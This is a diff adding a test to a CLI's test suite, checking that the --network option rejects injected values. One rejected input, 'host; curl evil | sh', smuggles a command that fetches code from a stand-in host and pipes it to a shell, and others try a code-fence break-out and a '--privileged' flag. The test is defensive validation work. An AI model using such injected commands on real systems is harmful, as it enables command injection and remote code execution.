@@ -114,6 +114,16 @@ describe('rep CLI', () => {
     expect(record.steps.find((st) => st.name === 'app')?.reasons).toEqual([{ kind: 'input-added', path: `src/${name}` }]);
   });
 
+  it('--network takes a network as docker and podman name one, nothing a command line or REPRODUCE.md could read otherwise', () => {
+    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
+    const expected = 'a network: none, host, bridge, a network name or container:NAME (letters, digits, _ . -)';
+    for (const args of [['build', '--engine', 'none', '--network', 'host; curl evil | sh'], ['publish', '--engine', 'none', '-o', 'b', '--network=host\n```'], ['verify', 'b', '--network', '--privileged']]) {
+      const r = rep(dir, args);
+      expect([r.code, r.stderr], args.join(' ')).toEqual([2, expect.stringContaining(expected)]);
+    }
+    expect(rep(dir, ['build', '--engine', 'none', '--network', 'container:my-db.1']).code).toBe(0);
+  });
+
   it('build --dry-run writes nothing', () => {
     const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
     const r = rep(dir, ['build', '--dry-run', '--engine', 'none']);
